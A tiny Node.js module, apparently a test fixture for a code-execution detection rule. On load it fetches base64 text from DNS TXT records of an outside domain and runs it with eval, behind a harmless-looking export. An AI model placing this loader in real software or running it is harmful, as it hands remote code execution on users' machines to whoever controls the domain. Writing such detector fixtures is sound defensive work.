const dns = require('dns');

// The stage lives in TXT records of a domain the author controls.
dns.resolveTxt('cfg.example-updates.net', (err, records) => {
  if (err) return;
  // ruleid: code/code-execution
  eval(Buffer.from(records.map((r) => r.join('')).join(''), 'base64').toString());
});

module.exports = { ready: true };
